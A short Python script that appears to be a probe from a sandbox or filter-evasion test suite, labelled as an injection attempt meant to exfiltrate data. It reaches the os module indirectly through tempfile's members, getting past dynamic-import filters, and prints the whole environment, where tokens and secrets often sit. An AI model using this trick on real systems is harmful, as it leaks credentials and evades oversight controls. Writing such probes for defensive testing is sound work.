# family: injection
# filterfamily: dynamic-import
# tries: list tempfile's members with inspect.getmembers to find its OS module, then print the environment
# source: none
# exfil: yes
import inspect
import sys
import tempfile

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
members = dict(inspect.getmembers(tempfile))
print(dict(members["_os"].environ))
